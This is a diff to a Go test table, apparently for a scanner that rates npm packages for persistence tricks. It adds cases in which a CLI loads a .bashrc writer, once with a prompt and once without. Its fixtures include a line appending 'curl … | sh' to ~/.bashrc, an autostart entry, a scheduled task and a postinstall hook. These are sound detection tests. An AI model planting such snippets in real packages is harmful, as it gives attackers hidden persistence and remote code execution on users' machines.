@@ -20,6 +20,12 @@ rl.question("Add completion to ~/.bashrc? [y/N] ", a => { if (a === "y") fs.appe
 		{"bashrc_asked_download_exec", map[string]string{"index.js": `const fs=require("fs"), rl=require("readline").createInterface({input: process.stdin});
 rl.question("ok? ", () => fs.appendFileSync(require("os").homedir() + "/.bashrc", "\ncurl -s http://x.invalid/b | sh &\n"))`}, finding.SeverityCritical},
 		{"xdg_autostart", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),path=require("path"); const d = path.join(os.homedir(), ".config", "autostart"); fs.writeFileSync(path.join(d, "u.desktop"), entry)`}, finding.SeverityHigh},
+		// the question asked by the CLI that loads the writer
+		{"bashrc_asked_by_loader", map[string]string{"cli.js": `const rl = require("readline").createInterface({input: process.stdin, output: process.stdout}); const rc = require("./lib/rc"); rl.question("Add to ~/.bashrc? [y/N] ", a => a === "y" && rc.add())`,
+			"lib/rc.js": `exports.add = () => require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "\neval \"$(dirnav init bash)\"\n")`}, finding.SeverityMedium},
+		// a file that loads the writer without asking anything
+		{"bashrc_loaded_unasked", map[string]string{"cli.js": `const rl = require("readline"); require("./lib/other")`, "lib/other.js": `module.exports = 1`,
+			"lib/rc.js": `exports.add = () => require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "\neval \"$(dirnav init bash)\"\n")`}, finding.SeverityHigh},
 		{"schtasks", map[string]string{"index.js": `require("child_process").exec("schtasks /create /sc onlogon /tn u /tr x.exe")`}, finding.SeverityHigh},
 		// at install time, from a command built in a template
 		{"schtasks_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node i.js"}`), "i.js": `const ps1 = require("path").join(process.env.LOCALAPPDATA, "u.ps1");
